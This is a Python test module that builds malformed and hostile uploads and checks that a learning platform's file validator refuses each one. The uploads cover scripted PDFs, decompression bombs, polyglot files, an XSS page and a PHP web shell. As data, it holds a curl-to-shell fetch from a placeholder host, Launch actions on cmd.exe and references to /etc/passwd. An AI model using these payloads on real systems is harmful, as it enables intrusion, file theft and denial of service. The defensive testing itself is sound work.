"""Files that must never be accepted, each made here from nothing, with the refusal it must get.

`python -m tests.lms.files.hostile FOLDER` checks them all in a fresh process and prints what it saw and used. Not one
of them gets as far as ffmpeg, so it is not offered.
"""

import io
import json
import resource
import struct
import sys
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from pypdf import PdfReader, PdfWriter

from lms.files.checks import FileRefused, Purpose, check_file

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(400)
DOS_PROGRAM = (
    b"MZ\x90\x00\x03" + bytes(55) + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode." * 8
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PAGE = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@dataclass(frozen=True)
class Hostile:
    purpose: Purpose
    code: str
    content: bytes


def archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as bundle:
        bundle.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        bundle.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(100))
    return target.getvalue()


def packed_zeros(count: int, *, twice: bool = False) -> bytes:
    """Made piece by piece: the maker's own memory would be counted as its child's."""
    first, second = zlib.compressobj(9), zlib.compressobj(9)
    pieces = [first.compress(bytes(1_000_000)) for _ in range(count // 1_000_000)] + [first.flush()]
    if twice:
        return b"".join(second.compress(piece) for piece in pieces) + second.flush()
    return b"".join(pieces)


# --- PDF -----------------------------------------------------------------------------------------------------------

CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
LEAF = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] %s >>"


def pdf(*more: bytes, catalogue: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """A one-page document; `more` are the objects 4, 5, … of it."""
    return pdf_of([CATALOGUE % catalogue, PAGES, LEAF % page, *more], trailer)


def pdf_of(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def object_stream(body: bytes, kind: bytes = b"/Type /ObjStm") -> bytes:
    """An object stream holding one object, number 9."""
    packed = zlib.compress(b"9 0 " + body)
    return stream(kind + b" /N 1 /First 4 /Filter /FlateDecode", packed)


def with_hidden_object(extra: bytes) -> bytes:
    """A good document with one more object that its cross-reference does not know (an older revision's)."""
    good = pdf()
    cut = good.index(b"xref\n")
    moved = good[:cut] + extra + good[cut:]
    return moved.replace(b"startxref\n%d" % cut, b"startxref\n%d" % (cut + len(extra)))


def with_update(extra: bytes) -> bytes:
    """A good document with an incremental update that replaces its catalogue."""
    good = pdf()
    start = len(good) + len(extra)
    before = good.rindex(b"startxref\n") + 10
    previous = int(good[before:].split()[0])
    table = b"xref\n1 1\n%010d 00000 n \n" % len(good)
    end = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)
    return good + extra + table + end


def encrypted_pdf() -> bytes:
    writer, target = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("", "owner", algorithm="RC4-128")
    writer.write(target)
    return target.getvalue()


def cross_reference_bomb(widths: bytes) -> bytes:
    """A cross-reference stream that claims a thousand million entries, and to continue at itself."""
    head = b"%PDF-1.7\n1 0 obj\n" + CATALOGUE % b"" + b"\nendobj\n2 0 obj\n" + PAGES + b"\nendobj\n"
    table = stream(
        b"/Type /XRef /Size 1000000000 /Index [0 1000000000] /W [%s] /Root 1 0 R /Prev %d /Filter /FlateDecode"
        % (widths, len(head)),
        packed_zeros(60_000_000),
    )
    return head + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def documents() -> Iterator[tuple[str, str, bytes]]:
    active, embedded = "pdf_active_content", "pdf_embedded_file"
    hidden_script = object_stream(SCRIPT)
    yield "script when opened", active, pdf(catalogue=b"/OpenAction " + SCRIPT)
    yield "script by reference", active, pdf(SCRIPT, catalogue=b"/OpenAction 4 0 R")
    yield (
        "script in the name tree",
        active,
        pdf(catalogue=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % SCRIPT),
    )
    yield (
        "script with an escaped name",
        active,
        pdf(catalogue=b"/OpenAction << /S /J#61vaScript /#4aS (x) >>"),
    )
    yield "script with every letter escaped", active, pdf(b"<< /S /#4a#61#76#61#53#63#72#69#70#74 >>")
    yield "short script key, escaped", active, pdf(b"<< /S 5 0 R /#4A#53 (x) >>", b"/Nothing")
    yield "script on a link", active, pdf(page=b"/Annots [<< /Subtype /Link /A %s >>]" % SCRIPT)
    yield (
        "script in a chain of actions",
        active,
        pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % SCRIPT),
    )
    yield "script in an object stream", active, pdf(hidden_script)
    yield "script in an untyped object stream", active, pdf(object_stream(SCRIPT, b""))
    yield (
        "script in an object stream of two types",
        active,
        pdf(object_stream(SCRIPT, b"/Type /XObject /Type /ObjStm")),
    )
    yield (
        "script in an unlisted object stream",
        active,
        with_hidden_object(b"9 0 obj\n%s\nendobj\n" % hidden_script),
    )
    yield "short key in an unlisted object", active, with_hidden_object(b"9 0 obj\n<< /JS (x) >>\nendobj\n")
    yield "short key behind a comment", active, pdf().replace(b"4 0 obj", b"").replace(
        b"trailer", b"9 % x\n0 obj << /JavaScript 1 >> endobj\ntrailer"
    )  # fmt: skip
    yield (
        "script in an update",
        active,
        with_update(b"1 0 obj\n%s\nendobj\n" % (CATALOGUE % (b"/OpenAction " + SCRIPT))),
    )
    yield "script without a cross-reference", active, pdf(SCRIPT).replace(b"startxref\n", b"startxref\n9")
    yield "script hidden in a stream", active, pdf(stream(b"", b"7 0 obj << /JS (x) >> endobj"))
    yield "additional actions", active, pdf(page=b"/AA << /O << /S /Named /N /Print >> >>")
    yield "launch", active, pdf(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "launch for one system", active, pdf(b"<< /S /L#61unch /Win << /F (calc.exe) >> >>")
    yield "form that sends", active, pdf(b"<< /S /SubmitForm /F (http://example.invalid) >>")
    yield "form that reads a file", active, pdf(b"<< /S /ImportData /F (/etc/passwd) >>")
    yield "XFA form", active, pdf(catalogue=b"/AcroForm << /XFA [(template) 4 0 R] /Fields [] >>")
    yield "rich media", active, pdf(page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]")
    yield "rendition", active, pdf(b"<< /S /Rendition /OP 0 >>")
    yield "film annotation", active, pdf(page=b"/Annots [<< /Subtype /Movie /Movie << /F (x.avi) >> >>]")
    yield "three-dimensional scene", active, pdf(page=b"/Annots [<< /Subtype /3D >>]")
    yield "remote document", active, pdf(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")
    yield "link to a local file", active, pdf(b"<< /S /URI /URI (file:///etc/passwd) >>")
    yield "link that is a script", active, pdf(b"<< /S /URI /URI (JavaScript:alert\\(1\\)) >>")
    yield "link to a shared folder", active, pdf(b"<< /S /URI /URI (\\\\\\\\server\\\\share) >>")
    yield "link by reference", active, pdf(b"<< /S /URI /URI 5 0 R >>", b"(file:///etc/shadow)")
    yield (
        "link given twice",
        active,
        pdf(b"<< /S /URI /URI (https://example.org) /URI (file:///etc/passwd) >>"),
    )
    yield "stream from another file", active, pdf(b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream")
    yield "page from another file", active, pdf(stream(b"/Subtype /Form /Ref << /F (x.pdf) /Page 0 >>", b""))
    yield (
        "embedded file",
        embedded,
        pdf(catalogue=b"/Names << /EmbeddedFiles << /Names [(a) << /EF << >> >>] >> >>"),
    )
    yield "embedded file, escaped", embedded, pdf(b"<< /Type /Embedded#46ile >>")
    yield "attached to a page", embedded, pdf(page=b"/Annots [<< /Subtype /FileAttachment >>]")
    yield "embedded document as a target", embedded, pdf(b"<< /S /GoToE /T << >> >>")
    yield "encrypted", "pdf_encrypted", encrypted_pdf()
    yield "said to be encrypted", "pdf_encrypted", pdf(trailer=b"/Encrypt << /Filter /Standard >>")
    yield (
        "pages in a ring",
        "file_broken",
        pdf_of([CATALOGUE % b"", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    )
    yield "pages in a wider ring", "file_broken", pdf_of(
        [CATALOGUE % b"", PAGES, b"<< /Type /Pages /Kids [4 0 R] >>", b"<< /Type /Pages /Kids [3 0 R] >>"]
    )  # fmt: skip
    yield "one page a hundred thousand times", "decoder_limit", pdf_of(
        [CATALOGUE % b"", b"<< /Type /Pages /Kids [%s] >>" % (b"3 0 R " * 99_000), LEAF % b""]
    )  # fmt: skip
    yield "no page", "file_broken", pdf_of([CATALOGUE % b"", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    yield "no catalogue", "file_broken", b"%PDF-1.7\n%%EOF\n"
    yield "arrays too deep", "file_broken", pdf(b"[" * 50_000 + b"]" * 50_000)
    yield "object stream bomb", "decoder_limit", pdf(
        stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed_zeros(200_000_000))
    )  # fmt: skip
    yield "object stream bomb packed twice", "decoder_limit", pdf(
        stream(
            b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
            packed_zeros(400_000_000, twice=True),
        )
    )  # fmt: skip
    yield (
        "object stream of a thousand million",
        "file_broken",
        pdf(stream(b"/Type /ObjStm /N 1000000000 /First 4", b"9 0 1")),
    )
    yield "cross-reference of a thousand million", "file_broken", cross_reference_bomb(b"1 1 1")
    yield "cross-reference entries of no bytes", "file_broken", cross_reference_bomb(b"0 0 0")
    yield "half a million objects", "decoder_limit", with_hidden_object(b"9 0 obj 1 endobj\n" * 310_000)
    yield "cut short", "file_broken", pdf(stream(b"", bytes(5000)))[:-600]
    yield "with an archive behind", "type_mismatch", pdf() + archive()
    yield (
        "with an archive and another end behind",
        "type_mismatch",
        pdf() + archive()[:-2] + b"\x06\x00%%EOF\n",
    )
    yield "with a page in front", "type_mismatch", pdf().replace(b"%\xe2\xe3\xcf\xd3\n", b"%" + PAGE + b"\n")
    yield "behind a page", "type_mismatch", PAGE + b"\n" + pdf()
    yield "with a program behind", "file_broken", pdf() + ELF
    yield "a page", "type_mismatch", PAGE
    yield "a program", "type_mismatch", DOS_PROGRAM
    yield "an office file", "type_mismatch", archive()
    yield "PostScript", "type_mismatch", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"
    yield "nothing", "file_empty", b""


# --- pictures ------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *before: bytes, pixels: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + b"".join(before)
        + chunk(b"IDAT", zlib.compress(pixels))
        + chunk(b"IEND", b"")
    )


def drawn(form: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size, 120).save(target, form, **options)
    return target.getvalue()


def animated(form: str) -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), (shade, 0, 0)) for shade in range(0, 250, 25)]
    frames[0].save(target, form, save_all=True, append_images=frames[1:], duration=40)
    return target.getvalue()


def jpeg_of(width: int, height: int) -> bytes:
    """A good small JPEG that claims another size in its frame header."""
    small = drawn("JPEG")
    place = small.index(b"\xff\xc0") + 5
    return small[:place] + struct.pack(">HH", height, width) + small[place + 4 :]


def webp_of(width: int, height: int) -> bytes:
    canvas = bytes(4) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas + drawn("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pictures() -> Iterator[tuple[str, str, bytes]]:
    mismatch, large, broken, animation = (
        "type_mismatch",
        "picture_too_large",
        "file_broken",
        "picture_animated",
    )
    controls = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield "PNG of 60000 × 60000", large, png(60_000, 60_000)
    yield "PNG of two thousand million", large, png(2**31 - 1, 1)
    yield "PNG just above the limit", large, png(8_000, 5_001)
    yield "JPEG bomb", large, jpeg_of(65_500, 65_500)
    yield "JPEG really drawn too large", large, drawn("JPEG", (7_000, 6_000), "L")
    yield "WebP of 16383 × 16383", large, webp_of(16_383, 16_383)
    yield "WebP canvas of 16 million", large, webp_of(1 << 24, 1 << 24)
    yield "large PNG without its pixels", broken, png(7_900, 5_000)
    yield "PNG of no size", broken, png(0, 0)
    yield "PNG with a wrong sum", broken, png(4, 4, pixels=bytes(52)).replace(b"IDAT", b"IDAT\x00", 1)
    yield "PNG with a text bomb", broken, png(
        4, 4, chunk(b"zTXt", b"a\x00\x00" + packed_zeros(100_000_000)), pixels=bytes(52)
    )  # fmt: skip
    yield "PNG with a profile bomb", broken, png(
        4, 4, chunk(b"iTXt", b"a\x00\x01\x00\x00\x00" + packed_zeros(100_000_000)), pixels=bytes(52)
    )  # fmt: skip
    yield "PNG cut short", broken, drawn("PNG", (900, 900))[:-900]
    yield "JPEG cut short", broken, drawn("JPEG", (900, 900))[:-400]
    yield "WebP cut short", broken, drawn("WEBP", (900, 900), lossless=True)[:-40]
    yield "JPEG header and a program", broken, b"\xff\xd8\xff\xe0" + ELF
    yield "PNG header and a page", broken, b"\x89PNG\r\n\x1a\n" + PAGE
    yield "animated PNG", animation, animated("PNG")
    yield "animated PNG of two thousand million frames", animation, png(4, 4, controls, pixels=bytes(52))
    yield "animated WebP", animation, animated("WEBP")
    yield "GIF", mismatch, drawn("GIF")
    yield "animated GIF", mismatch, animated("GIF")
    yield "GIF of 65535 × 65535", mismatch, b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",;"
    yield "TIFF", mismatch, drawn("TIFF")
    yield "BMP", mismatch, drawn("BMP")
    yield "icon", mismatch, drawn("ICO")
    yield "SVG with a script", mismatch, SVG
    yield (
        "ImageMagick script",
        mismatch,
        b"push graphic-context\nimage over 0,0 0,0 'https://example.invalid'\n",
    )
    yield "PostScript picture", mismatch, b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n"
    yield "page", mismatch, PAGE
    yield "PHP", mismatch, PHP
    yield "GIF that is also PHP", mismatch, b"GIF89a" + PHP
    yield "program", mismatch, ELF
    yield "Windows program", mismatch, DOS_PROGRAM
    yield "script", mismatch, SHELL_SCRIPT
    yield "archive", mismatch, archive()
    yield "document", mismatch, pdf()
    yield "one byte", mismatch, b"\xff"
    yield "nothing", "file_empty", b""


# --- films and sounds ----------------------------------------------------------------------------------------------


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I", len(body) + 8) + kind + body


FTYP = box(b"ftyp", b"isom", bytes(4), b"isomavc1")
MDAT = box(b"mdat", bytes(2000))
THIS_FILE = box(b"url ", b"\x00\x00\x00\x01")


def track(
    subject: bytes = b"vide",
    codec: bytes = b"avc1",
    source: bytes = THIS_FILE,
    size: tuple[int, int] = (640, 360),
) -> bytes:
    header = box(b"tkhd", bytes(76), struct.pack(">II", size[0] << 16, size[1] << 16))
    references = box(b"dinf", box(b"dref", bytes(4), struct.pack(">I", 1), source))
    table = box(b"stbl", box(b"stsd", bytes(4), struct.pack(">I", 1), box(codec, bytes(78))))
    handler = box(b"hdlr", bytes(8), subject, bytes(13))
    return box(b"trak", header, box(b"mdia", handler, box(b"minf", references, table)))


def movie(*tracks: bytes, seconds: int = 10) -> bytes:
    return box(b"moov", box(b"mvhd", bytes(12), struct.pack(">II", 1000, seconds * 1000), bytes(80)), *tracks)


def element(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return kind + struct.pack(">Q", len(body) | 1 << 56) + body


def matroska(*more: bytes, info: bytes = b"", document_type: bytes = b"webm") -> bytes:
    video = element(b"\xe0", element(b"\xb0", b"\x02\x80"), element(b"\xba", b"\x01\x68"))
    entry = element(
        b"\xae", element(b"\xd7", b"\x01"), element(b"\x83", b"\x01"), element(b"\x86", b"V_VP8"), video
    )
    return element(b"\x1a\x45\xdf\xa3", element(b"\x42\x82", document_type)) + element(
        b"\x18\x53\x80\x67",
        element(b"\x15\x49\xa9\x66", element(b"\x2a\xd7\xb1", b"\x0f\x42\x40"), info),
        element(b"\x16\x54\xae\x6b", entry),
        *more,
        element(
            b"\x1f\x43\xb6\x75", element(b"\xe7", b"\x00"), element(b"\xa3", b"\x81\x00\x00\x80" + bytes(50))
        ),
    )


def ogg_page(packet: bytes, serial: int = 1, flags: int = 0) -> bytes:
    header = b"OggS\x00" + bytes([flags]) + struct.pack("<QIIIB", 48_000, serial, 0, 0, 1)
    return header + bytes([len(packet)]) + packet


MP3_FRAME = b"\xff\xfb\x90\x00" + bytes(413)
OPUS = b"OpusHead\x01\x01\x00\x00\x80\xbb\x00\x00\x00\x00\x00"
WAV_FORMAT = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"


def wav(form: bytes, data: bytes, claimed: int | None = None) -> bytes:
    length = len(data) if claimed is None else claimed
    body = b"WAVEfmt " + struct.pack("<I", len(form)) + form + b"data" + struct.pack("<I", length) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def films() -> Iterator[tuple[str, str, bytes]]:
    mismatch, broken, unsafe = "type_mismatch", "file_broken", "media_unsafe"
    good = movie(track())
    elsewhere = box(b"url ", bytes(4), b"file:///etc/passwd\x00")
    yield "program", mismatch, ELF
    yield "Windows program", mismatch, DOS_PROGRAM
    yield "script", mismatch, SHELL_SCRIPT
    yield "page", mismatch, PAGE
    yield "archive", mismatch, archive()
    yield "document", mismatch, pdf()
    yield "picture", mismatch, drawn("JPEG")
    yield "AVIF picture", mismatch, box(b"ftyp", b"avif", bytes(4), b"avifmif1") + good
    yield "playlist of files", mismatch, b"ffconcat version 1.0\nfile /etc/passwd\n"
    yield "playlist", mismatch, PLAYLIST
    yield "playlist after blanks", mismatch, b"\xef\xbb\xbf\r\n" + PLAYLIST
    yield "playlist dressed as a sound", mismatch, b"ID3\x04\x00\x00\x00\x00\x00\x00" + PLAYLIST
    yield "manifest", mismatch, b'<?xml version="1.0"?><MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>'
    yield "session description", mismatch, b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 10.0.0.1\r\n"
    yield "AVI", mismatch, b"RIFF\x00\x10\x00\x00AVI LIST" + bytes(500)
    yield "Flash film", mismatch, b"FLV\x01\x05\x00\x00\x00\x09" + bytes(500)
    yield "Flash program", mismatch, b"CWS\x0a" + bytes(500)
    yield "Windows Media", mismatch, bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + bytes(500)
    yield "transport stream", mismatch, (b"\x47\x40\x00\x10" + bytes(184)) * 8
    yield "only a beginning", broken, FTYP
    yield "beginning and a program", broken, FTYP + ELF
    yield "without its index", broken, FTYP + MDAT
    yield "cut in the film", broken, (FTYP + good + MDAT)[:-700]
    yield "cut in the index", broken, (FTYP + MDAT + good)[:-90]
    yield "with an archive behind", mismatch, FTYP + good + MDAT + archive()
    yield "with an archive in a free box", mismatch, FTYP + good + MDAT + box(b"free", archive())
    yield "with a page behind", broken, FTYP + good + MDAT + PAGE
    yield "two indexes", broken, FTYP + good + good + MDAT
    yield "box longer than numbers go", broken, FTYP + good + b"\x00\x00\x00\x01mdat" + b"\xff" * 8
    yield "box shorter than its header", broken, FTYP + good + b"\x00\x00\x00\x02mdat" + bytes(100)
    yield "a million boxes", "decoder_limit", FTYP + good + box(b"free") * 510_000
    yield "samples in another file", unsafe, FTYP + movie(track(source=elsewhere)) + MDAT
    yield "samples in an alias", unsafe, FTYP + movie(track(source=box(b"alis", bytes(200)))) + MDAT
    yield "samples by a name", unsafe, FTYP + movie(track(source=box(b"urn ", bytes(4), b"urn:x\x00"))) + MDAT
    yield "second track elsewhere", unsafe, FTYP + movie(track(), track(b"soun", b"mp4a", elsewhere)) + MDAT
    yield "reference movie", unsafe, FTYP + box(b"moov", box(b"rmra", bytes(40))) + MDAT
    yield "compressed index", unsafe, FTYP + box(b"moov", box(b"cmov", bytes(40))) + MDAT
    yield "Flash track", unsafe, FTYP + movie(track(), track(b"flsh", b"flsh")) + MDAT
    yield "sound only", "not_a_video", FTYP + movie(track(b"soun", b"mp4a")) + MDAT
    yield "no track", "not_a_video", FTYP + movie() + MDAT
    yield "forty tracks", "decoder_limit", FTYP + movie(*[track()] * 40) + MDAT
    yield "five hours", "media_too_long", FTYP + movie(track(), seconds=5 * 3600) + MDAT
    yield "frame of 30000 × 30000", "picture_too_large", FTYP + movie(track(size=(30_000, 30_000))) + MDAT
    yield "Matroska with a file inside", unsafe, matroska(
        element(b"\x19\x41\xa4\x69", element(b"\x61\xa7", element(b"\x46\x6e", b"evil.exe"), element(b"\x46\x5c", ELF)))
    )  # fmt: skip
    yield "Matroska going on elsewhere", unsafe, matroska(info=element(b"\x3e\xb9\x23", bytes(16)))
    yield (
        "Matroska with linked chapters",
        unsafe,
        matroska(element(b"\x10\x43\xa7\x70", element(b"\x6e\x67", bytes(16)))),
    )
    yield "EBML of another kind", mismatch, matroska(document_type=b"evil")
    yield "Matroska cut short", broken, matroska()[:-30]
    yield "Matroska and a program", broken, matroska() + ELF
    yield "Matroska number too long", broken, b"\x1a\x45\xdf\xa3\x00" + bytes(100)
    yield "nothing", "file_empty", b""


def sounds() -> Iterator[tuple[str, str, bytes]]:
    mismatch, broken = "type_mismatch", "file_broken"
    yield "program", mismatch, ELF
    yield "playlist", mismatch, PLAYLIST
    yield "playlist with a tag", mismatch, b"ID3\x04\x00\x00\x00\x00\x00\x00" + PLAYLIST
    yield "tag and a program", mismatch, b"ID3\x04\x00\x00\x00\x00\x00\x00" + ELF
    yield "tag longer than the file", mismatch, b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + MP3_FRAME * 5
    yield "one frame and a program", mismatch, MP3_FRAME + ELF
    yield "MP3 and a script", broken, MP3_FRAME * 5 + SHELL_SCRIPT
    yield "MP3 cut short", broken, (MP3_FRAME * 5)[:-100]
    yield "MP3 and an archive", mismatch, MP3_FRAME * 5 + archive()
    yield "MIDI", mismatch, b"MThd\x00\x00\x00\x06" + bytes(60)
    yield (
        "WAV of another codec",
        "not_a_sound",
        wav(struct.pack("<HHIIHH", 0x0161, 1, 8000, 16000, 2, 16), bytes(900)),
    )
    yield "WAV cut short", broken, wav(WAV_FORMAT, bytes(4000))[:-500]
    yield "WAV that lies about its samples", broken, wav(WAV_FORMAT, bytes(400), claimed=2**31)
    yield "WAV without samples", broken, wav(WAV_FORMAT, b"")
    yield "Ogg of a film", "not_a_sound", ogg_page(b"\x80theora\x03\x02\x01" + bytes(30), flags=2)
    yield "Ogg of two streams", "media_unsafe", ogg_page(OPUS) + ogg_page(b"\x80theora", serial=2)
    yield "Ogg cut short", broken, (ogg_page(OPUS) + ogg_page(bytes(200)))[:-60]
    yield "Ogg and a program", broken, ogg_page(OPUS) + ELF
    yield "film without sound", "not_a_sound", FTYP + movie(track()) + MDAT
    yield "samples in another file", "media_unsafe", (
        FTYP + movie(track(b"soun", b"mp4a", box(b"url ", bytes(4), b"http://example.invalid/x\x00"))) + MDAT
    )  # fmt: skip
    yield "nothing", "file_empty", b""


MAKERS: dict[Purpose, Callable[[], Iterator[tuple[str, str, bytes]]]] = {
    "document": documents,
    "image": pictures,
    "video": films,
    "audio": sounds,
}


def corpus() -> Iterator[tuple[str, Hostile]]:
    for purpose, maker in MAKERS.items():
        for name, code, content in maker():
            yield f"{purpose}: {name}", Hostile(purpose, code, content)


def check_all(folder: Path) -> list[tuple[str, str, str]]:
    """Name, the code it must get, what it got."""

    def outcome(named: tuple[str, Hostile]) -> tuple[str, str, str]:
        name, file = named
        path = folder / f"upload of {threading.get_ident()}"
        path.write_bytes(file.content)
        try:
            check_file(path, purpose=file.purpose, workdir=folder, program_path="")
        except FileRefused as refusal:
            return name, file.code, refusal.code
        return name, file.code, "accepted"

    with ThreadPoolExecutor(2) as pool:
        return list(pool.map(outcome, corpus()))


def main() -> None:
    folder = Path(sys.argv[1])
    outcomes = check_all(folder)
    kibibytes = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    left = sorted(path.name for path in folder.iterdir())
    json.dump({"outcomes": outcomes, "child_bytes": kibibytes * 1024, "left": left}, sys.stdout)


if __name__ == "__main__":
    main()
